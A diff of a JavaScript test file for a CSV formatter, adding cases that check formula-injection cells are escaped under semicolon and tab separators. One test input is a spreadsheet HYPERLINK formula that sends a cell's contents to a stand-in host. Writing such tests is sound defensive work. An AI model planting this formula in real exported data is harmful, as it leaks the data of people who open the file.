@@ -12,12 +12,19 @@ describe('a table', () => {
       ['plain', 'with, comma', 'with "quotes"', ''],
       ['two\nlines', '=SUM(A1)', '-x', '@cmd'],
       ['Ünï', ' spaced ', '+1', '\t'],
+      ['one; =two', 'Office;=HYPERLINK("x")', 'tab\t@x', 'line\n-1; +2'],
     ];
     expect(cells(formatCsv(rows))).toEqual(rows);
   });
 
   it('is written so that a spreadsheet runs no cell as a formula', () => {
     expect(formatCsv([['=1+1', '+1', '-1', '@A1', 'a=1']])).toBe("'=1+1,'+1,'-1,'@A1,a=1");
+  });
+
+  it('is run as a formula nowhere where a semicolon or a tab separates cells and our quotes count for nothing', () => {
+    const text = formatCsv([['VG-FIX; Office;=HYPERLINK("https://x.example/?"&A1)', 'a\t@x', 'b\n+1', 'c; -2', 'a=1;b']]);
+    expect(text.split(/[;\t\n,]/).filter((cell) => /^ *[=+\-@]/.test(cell))).toEqual([]);
+    expect(text).toContain('a=1;b');
   });
 
   it('is read with either line end, with a byte-order mark, and without blank lines', () => {
